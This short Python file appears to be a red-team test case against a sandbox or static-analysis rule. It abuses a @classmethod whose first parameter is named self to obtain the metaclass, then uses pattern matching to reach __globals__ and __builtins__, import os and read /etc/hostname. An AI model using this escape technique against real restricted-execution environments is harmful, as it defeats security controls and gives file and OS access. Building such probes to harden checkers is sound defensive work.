# family: red team, round 8 (classmethod_named_self_type_self)
# type(self) is accepted when self is "the first parameter of a method never called through its class";
# the rule does not look at decorators, so in a @classmethod whose first parameter is named self, self is
# the class and type(self) is its metaclass (called through an instance, which the rule deems bound).
import abc


class Base(abc.ABC):
    @classmethod
    def kind(self):
        return type(self)


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    meta = Base().kind()
    probe = meta("Probe", (), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return Base().kind().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
